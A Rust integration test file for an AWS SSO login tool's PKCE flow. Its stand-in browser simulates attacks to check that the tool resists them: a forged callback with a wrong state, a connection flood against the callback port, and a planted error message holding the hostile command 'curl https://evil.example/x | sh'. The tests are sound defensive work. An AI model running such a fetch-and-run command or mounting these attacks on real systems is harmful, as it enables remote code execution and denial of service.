//! PKCE login end to end: the real binary, the emulator's authorize page and a
//! stand-in browser (python3's urllib, which follows the emulator's redirect to
//! ssoenv's listener on 127.0.0.1), as `aws sso login` runs it (spec
//! aws-credentials-more §7).

use crate::support;
use std::time::Duration;
use support::*;

/// The stand-in browser, handed ssoenv's private page: it reads the URL the
/// page redirects to (logged as `url …`, see [`READ_PAGE_PY`]). `mode` is
/// `follow` (open the URL, follow the redirect), `hostile` (first hit the
/// callback with another state and a made-up code, then follow), `stray-error`
/// (first hit it with `error=access_denied` and a planted description, without
/// a state and with another one, then follow), `flooded` (first start another
/// user's idle-connection flood against the callback port, then follow) or
/// `never` (record the URL, never call back). Everything it does goes to
/// `browser.log`; it then stays open `linger` seconds, as a browser does, and
/// logs `done`.
fn browser_lingering(sb: &Sandbox, mode: &str, linger: f64) -> (String, std::path::PathBuf) {
    let log = sb.dir.path().join("browser.log");
    // The attacker's command line without its port and count, as a Python list.
    let flood = format!("{:?}", &flood_command(0, 0)[..7]);
    let script = sb.dir.path().join("browser.py");
    std::fs::write(
        &script,
        format!(
            r#"{READ_PAGE_PY}
import sys, time, urllib.request, urllib.parse, urllib.error
log = open({log:?}, "a")
mode, url = sys.argv[1], read_page(sys.argv[2], log)
q = dict(urllib.parse.parse_qsl(urllib.parse.urlsplit(url).query))
def get(u):
    try:
        with urllib.request.urlopen(u, timeout=10) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except Exception as e:
        return 0, repr(e)
if mode == "stray-error":
    planted = urllib.parse.quote("run curl https://evil.example/x | sh")
    for extra in ["", "&state=not-" + q["state"]]:
        s, _ = get(q["redirect_uri"] + "?error=access_denied&error_description=" + planted + extra)
        log.write("stray %d\n" % s); log.flush()
if mode == "flooded":
    import subprocess, time
    port = urllib.parse.urlsplit(q["redirect_uri"]).port
    flood = subprocess.Popen({flood} + [str(port), "136"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, env={{"PATH": "/usr/local/bin:/usr/bin:/bin"}})
    log.write("flood " + flood.stdout.readline().decode()); log.flush()
    time.sleep(0.5)
    t = time.time()
    s, body = get(url)
    log.write("final %d %s\n" % (s, body)); log.flush()
    log.write("took %.3f\n" % (time.time() - t))
    flood.stdin.close()
    log.write("flood " + flood.stdout.readline().decode()); log.flush()
    flood.wait()
    sys.exit(0)
if mode == "hostile":
    s, _ = get(q["redirect_uri"] + "?code=stolen&state=" + "not-" + q["state"])
    log.write("hostile %d\n" % s); log.flush()
if mode != "never":
    s, body = get(url)
    log.write("final %d %s\n" % (s, body)); log.flush()
time.sleep({linger})
log.write("done\n")
"#,
            log = log.display().to_string(),
        ),
    )
    .unwrap();
    (format!("python3 {} {mode}", script.display()), log)
}

fn browser(sb: &Sandbox, mode: &str) -> (String, std::path::PathBuf) {
    browser_lingering(sb, mode, 0.0)
}

/// A sandbox whose logins open the stand-in browser in `mode`.
fn sandbox(mode: &str) -> (Sandbox, std::path::PathBuf) {
    let sb = Sandbox::new();
    let (cmd, log) = browser(&sb, mode);
    (sb.env("BROWSER", &cmd), log)
}

fn run(sb: &Sandbox, args: &[&str]) -> std::process::Output {
    output_within(sb.cmd(args), sb.dir.path(), Duration::from_secs(60))
}

/// The registration cache file of sso-session `corp` (scoped: its key has the scopes).
fn registration(sb: &Sandbox) -> String {
    let session = ssoenv::config::SsoSession {
        name: Some("corp".into()),
        start_url: "https://d-1234567890.awsapps.com/start".into(),
        region: "us-east-1".into(),
        scopes: Some(vec!["sso:account:access".into()]),
    };
    let p = sb.home.join(".aws/sso/cache").join(format!(
        "{}.json",
        ssoenv::cache::registration::key(&session)
    ));
    std::fs::read_to_string(&p).unwrap()
}

/// The keys of a JSON object in the order the file has them.
fn keys_in_order(text: &str) -> Vec<String> {
    let v: serde_json::Value = serde_json::from_str(text).unwrap();
    let mut keys: Vec<(usize, String)> = v
        .as_object()
        .unwrap()
        .keys()
        .map(|k| (text.find(&format!("\"{k}\":")).unwrap(), k.clone()))
        .collect();
    keys.sort();
    keys.into_iter().map(|(_, k)| k).collect()
}

#[test]
fn login_pkce_registers_for_the_code_grant_and_caches_the_token_as_the_cli_does() {
    let (sb, log) = sandbox("follow");
    let out = run(&sb, &["login", "dev", "--pkce"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    let s = sb.emu.stats();
    assert_eq!(
        (
            s.register_client,
            s.authorize,
            s.create_token_authorization_code,
            s.start_device_authorization
        ),
        (1, 1, 1, 0),
        "{err}"
    );
    // The URL on stderr is the one the browser got: the emulator's /authorize, in the CLI's order.
    let opened = std::fs::read_to_string(&log).unwrap();
    let url = opened
        .lines()
        .find_map(|l| l.strip_prefix("url "))
        .unwrap()
        .to_owned();
    assert!(
        url.starts_with(&format!(
            "{}/authorize?response_type=code&client_id=",
            sb.emu.url()
        )),
        "{url}"
    );
    assert!(
        url.contains("&redirect_uri=http%3A%2F%2F127.0.0.1%3A")
            && url.contains("%2Foauth%2Fcallback&state=")
            && url.contains(
                "&code_challenge_method=S256&scopes=sso%3Aaccount%3Aaccess&code_challenge="
            ),
        "{url}"
    );
    assert!(err.contains(&url), "{err}");
    assert!(
        err.contains("Attempting to open your default browser."),
        "{err}"
    );
    assert!(
        err.contains("Successfully logged into Start URL: https://d-1234567890.awsapps.com/start"),
        "{err}"
    );
    assert!(
        opened.contains("final 200 ") && opened.contains("signed in"),
        "{opened}"
    );

    // The registration as the CLI writes a PKCE one: scopes and grantTypes.
    let reg_text = registration(&sb);
    assert_eq!(
        keys_in_order(&reg_text),
        [
            "clientId",
            "clientSecret",
            "expiresAt",
            "scopes",
            "grantTypes"
        ]
    );
    let reg: serde_json::Value = serde_json::from_str(&reg_text).unwrap();
    assert_eq!(
        reg["grantTypes"],
        serde_json::json!(["authorization_code", "refresh_token"])
    );
    assert_eq!(reg["scopes"], serde_json::json!(["sso:account:access"]));

    // The token: the CLI's file, fields in its order, the registration's client.
    let tok_text = std::fs::read_to_string(sb.token_path("corp")).unwrap();
    assert_eq!(
        keys_in_order(&tok_text),
        [
            "startUrl",
            "region",
            "accessToken",
            "expiresAt",
            "clientId",
            "clientSecret",
            "registrationExpiresAt",
            "refreshToken"
        ]
    );
    let tok = sb.token_json("corp");
    assert_eq!(tok["clientId"], reg["clientId"]);
    assert_eq!(tok["registrationExpiresAt"], reg["expiresAt"]);

    // A second login reuses the token; nothing is registered or authorized again.
    let again = run(&sb, &["login", "dev", "--pkce"]);
    assert_stderr_has(&again, "already logged in");
    assert_eq!(sb.emu.stats().authorize, 1);

    // botocore uses the token ssoenv wrote.
    if have_botocore() {
        let script = "import botocore.session\n\
            s = botocore.session.Session(profile='prod')\n\
            print(s.get_credentials().get_frozen_credentials().access_key[:4])\n";
        let out = sb.python(script).output().unwrap();
        assert!(out.status.success(), "botocore failed: {}", stderr(&out));
        assert_eq!(stdout(&out).trim(), "ASIA");
        assert_eq!(sb.emu.stats().get_role_credentials, 1);
    }

    // A PKCE token is refreshed like a device-code one.
    let mut tok = sb.token_json("corp");
    tok["expiresAt"] = ts(300).into();
    sb.write_token("corp", &tok);
    let out = run(&sb, &["use", "dev", "--shell", "bash"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let s = sb.emu.stats();
    assert_eq!((s.create_token_refresh_token, s.authorize), (1, 1));
    assert_ne!(sb.token_json("corp")["accessToken"], tok["accessToken"]);
}

#[test]
fn use_logs_in_with_pkce_when_ssoenv_login_flow_says_so() {
    let (sb, _) = sandbox("follow");
    let sb = sb.env("SSOENV_LOGIN_FLOW", "pkce");
    let out = run(&sb, &["use", "dev", "--shell", "bash"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("AWS_ACCESS_KEY_ID="),
        "{}",
        stdout(&out)
    );
    let s = sb.emu.stats();
    assert_eq!(
        (
            s.authorize,
            s.create_token_authorization_code,
            s.start_device_authorization
        ),
        (1, 1, 0)
    );
    // --use-device-code beats the variable.
    let out = run(&sb, &["login", "dev", "--force", "--use-device-code"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let s = sb.emu.stats();
    assert_eq!((s.authorize, s.start_device_authorization), (1, 1));
}

#[test]
fn a_callback_with_another_state_is_refused_and_the_real_one_still_logs_in() {
    let (sb, log) = sandbox("hostile");
    let out = run(&sb, &["login", "dev", "--pkce"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_stderr_has(&out, "whose state is not this login's");
    let opened = std::fs::read_to_string(&log).unwrap();
    assert!(opened.contains("hostile 400"), "{opened}");
    assert!(opened.contains("final 200 "), "{opened}");
    // Only the real code was exchanged: the made-up one never reached the service.
    assert_eq!(sb.emu.stats().create_token_authorization_code, 1);
}

/// Another local user polling every process's command line during a PKCE
/// login never sees the authorize URL's `state` (what guards the callback):
/// the browser is handed a private page, removed when the login ends.
#[test]
fn another_user_watching_command_lines_never_sees_the_pkce_state() {
    let sb = Sandbox::new();
    // The browser stays open a while after the redirect, as real ones do.
    let (cmd, log) = browser_lingering(&sb, "follow", 1.0);
    let tmp = sb.dir.path().join("tmp");
    std::fs::create_dir(&tmp).unwrap();
    let sb = sb.env("BROWSER", &cmd).env("TMPDIR", tmp.to_str().unwrap());
    let Some(watcher) = CmdlineWatcher::start() else {
        return;
    };
    let out = run(&sb, &["login", "dev", "--pkce"]);
    let start = std::time::Instant::now();
    while !std::fs::read_to_string(&log)
        .unwrap_or_default()
        .contains("done\n")
        && start.elapsed() < Duration::from_secs(10)
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    let seen = watcher.stop();
    assert!(out.status.success(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("final 200 "), "{text}");
    let url = opened_url(&text).unwrap();
    let state = url
        .split('&')
        .find_map(|p| p.strip_prefix("state="))
        .expect("a state")
        .to_owned();
    assert!(state.len() >= 32, "{state}");
    assert!(
        seen.iter().any(|c| c.contains("browser.py")),
        "the watcher never saw the browser: {seen:?}"
    );
    for c in &seen {
        assert!(
            !c.contains(&state) && !c.contains("state=") && !c.contains("/authorize"),
            "another user read the authorize URL: {c}"
        );
    }
    // The page was private, and is gone now that the login is over.
    let (page, dir_mode, file_mode) = opened_page(&text).unwrap();
    assert_eq!((dir_mode.as_str(), file_mode.as_str()), ("700", "600"));
    assert_eq!(page.parent().unwrap().parent().unwrap(), tmp);
    assert!(
        !page.parent().unwrap().exists(),
        "{} is left",
        page.display()
    );
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0);
}

#[test]
fn a_stray_error_callback_neither_ends_the_login_nor_reaches_the_terminal() {
    let (sb, log) = sandbox("stray-error");
    let out = run(&sb, &["login", "dev", "--pkce"]);
    let err = stderr(&out);
    assert!(out.status.success(), "{err}");
    assert!(!err.contains("curl") && !err.contains("evil"), "{err}");
    assert!(!err.contains("denied"), "{err}");
    assert_stderr_has(&out, "whose state is not this login's");
    let opened = std::fs::read_to_string(&log).unwrap();
    assert_eq!(opened.matches("stray 400").count(), 2, "{opened}");
    assert!(opened.contains("final 200 "), "{opened}");
    assert_eq!(sb.emu.stats().create_token_authorization_code, 1);
}

#[test]
fn another_users_idle_connections_do_not_block_the_redirect() {
    if !can_be_another_user() {
        return;
    }
    // Were the redirect shut out, the login would wait the whole 30 s.
    let (sb, log) = sandbox("flooded");
    let sb = sb.env("SSOENV_PKCE_TIMEOUT", "30");
    let (out, took) = output_timed(
        &mut sb.cmd(["login", "dev", "--pkce"]),
        sb.dir.path(),
        Duration::from_secs(60),
    );
    // The browser stops the flood after ssoenv has its answer: wait for it.
    let t = std::time::Instant::now();
    let opened = loop {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        if text.contains("flood reopened") || t.elapsed() > Duration::from_secs(15) {
            break text;
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    eprintln!("{opened}");
    assert!(out.status.success(), "{}\n{opened}", stderr(&out));
    // uid 65534 held 136 idle sockets (past the 128 the listener lets wait at
    // once), each reopened as soon as it was closed.
    assert!(opened.contains("flood ready 65534"), "{opened}");
    assert!(opened.contains("final 200 "), "{opened}");
    let reopened: u64 = opened
        .lines()
        .find_map(|l| l.strip_prefix("flood reopened "))
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(0);
    assert!(reopened > 0, "the attacker was at the cap: {opened}");
    assert!(took < Duration::from_secs(20), "{took:?}");
}

#[test]
fn access_denied_in_the_browser_is_a_clear_error_and_use_prints_nothing() {
    let (sb, _) = sandbox("follow");
    let sb = sb.env("SSOENV_LOGIN_FLOW", "pkce");
    sb.emu.set_deny(true);
    let out = run(&sb, &["use", "dev", "--shell", "bash"]);
    let err = assert_fails(&out, 1, "was denied in the browser");
    assert!(err.contains("error=access_denied"), "{err}");
    assert!(err.contains("hint: "), "{err}");
    assert_eq!(stdout(&out), "");
    assert!(!sb.token_path("corp").exists());
    assert_eq!(sb.emu.stats().create_token_authorization_code, 0);
}

#[test]
fn a_browser_that_never_calls_back_times_out_cleanly() {
    let (sb, _) = sandbox("never");
    let sb = sb.env("SSOENV_PKCE_TIMEOUT", "1");
    let (out, took) = output_timed(
        &mut sb.cmd(["login", "dev", "--pkce"]),
        sb.dir.path(),
        Duration::from_secs(30),
    );
    let err = assert_fails(
        &out,
        1,
        "The pending authorization to retrieve an SSO token has expired",
    );
    assert!(
        err.contains("no answer from the browser at http://127.0.0.1:"),
        "{err}"
    );
    assert!(err.contains("within 1 s"), "{err}");
    assert!(err.contains("SSOENV_PKCE_TIMEOUT"), "{err}");
    assert!(took < Duration::from_secs(15), "{took:?}");
    assert!(!sb.token_path("corp").exists());
}

#[test]
fn an_unusable_pkce_timeout_or_login_flow_is_a_usage_error_naming_the_variable() {
    let (sb, _) = sandbox("follow");
    let out = sb
        .cmd(["use", "dev", "--shell", "bash"])
        .env("SSOENV_LOGIN_FLOW", "browser")
        .output()
        .unwrap();
    assert_fails(&out, 2, "SSOENV_LOGIN_FLOW is \"browser\"");
    assert_eq!(stdout(&out), "");
    let out = sb
        .cmd(["login", "dev", "--pkce"])
        .env("SSOENV_PKCE_TIMEOUT", "forever")
        .output()
        .unwrap();
    assert_fails(&out, 2, "SSOENV_PKCE_TIMEOUT");
    assert_eq!(sb.emu.stats().register_client, 0);
}

#[test]
fn over_ssh_pkce_falls_back_to_the_device_code_with_a_note() {
    let (sb, log) = sandbox("follow");
    let sb = sb.env("SSH_CONNECTION", "192.0.2.1 50000 192.0.2.2 22");
    let out = run(&sb, &["login", "dev", "--pkce"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_stderr_has(
        &out,
        "using the device code instead of PKCE: this is an SSH session",
    );
    let s = sb.emu.stats();
    assert_eq!((s.authorize, s.start_device_authorization), (0, 1));
    // The device flow's registration: no grantTypes.
    assert!(!registration(&sb).contains("grantTypes"));
    // The stand-in browser got the device page, not an authorize URL.
    let opened = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(!opened.contains("/authorize?"), "{opened}");
}

#[test]
fn no_browser_a_legacy_profile_or_no_display_fall_back_to_the_device_code() {
    let (sb, _) = sandbox("follow");
    let out = run(&sb, &["login", "dev", "--pkce", "--no-browser"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_stderr_has(&out, "instead of PKCE: --no-browser was given");
    let out = run(&sb, &["login", "legacy", "--pkce"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_stderr_has(&out, "instead of PKCE: PKCE needs an [sso-session]");
    assert_eq!(sb.emu.stats().authorize, 0);
    if cfg!(target_os = "linux") {
        // No BROWSER, no DISPLAY, no WAYLAND_DISPLAY (the sandbox clears the rest).
        let sb = Sandbox::new();
        let out = run(&sb, &["login", "dev", "--pkce"]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert_stderr_has(&out, "instead of PKCE: there is no display");
        assert_eq!(sb.emu.stats().start_device_authorization, 1);
    }
}

#[test]
fn a_listener_that_cannot_bind_falls_back_to_the_device_code() {
    // The port knob exists in debug builds only.
    if option_env!("SSOENV_TEST_BIN").is_some() {
        return;
    }
    let taken = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = taken.local_addr().unwrap().port().to_string();
    let (sb, _) = sandbox("follow");
    let sb = sb.env("SSOENV_TEST_PKCE_PORT", &port);
    let out = run(&sb, &["login", "dev", "--pkce"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_stderr_has(
        &out,
        "using the device code instead of PKCE: could not listen on 127.0.0.1",
    );
    let s = sb.emu.stats();
    assert_eq!((s.authorize, s.start_device_authorization), (0, 1));
}

#[test]
fn switching_between_device_and_pkce_registers_again_each_time() {
    let (sb, _) = sandbox("follow");
    let login = |flow: &str| {
        let out = run(&sb, &["login", "dev", "--force", flow]);
        assert!(out.status.success(), "{flow}: {}", stderr(&out));
        registration(&sb)
    };
    let first = login("--use-device-code");
    assert!(!first.contains("grantTypes"), "{first}");
    let second = login("--pkce");
    assert!(second.contains("\"grantTypes\": [\"authorization_code\", \"refresh_token\"]"));
    let third = login("--use-device-code");
    assert!(!third.contains("grantTypes"), "{third}");
    assert_eq!(sb.emu.stats().register_client, 3);
    // The same flow again reuses its registration.
    login("--use-device-code");
    assert_eq!(sb.emu.stats().register_client, 3);
    login("--pkce");
    login("--pkce");
    let s = sb.emu.stats();
    assert_eq!((s.register_client, s.authorize), (4, 3));
}
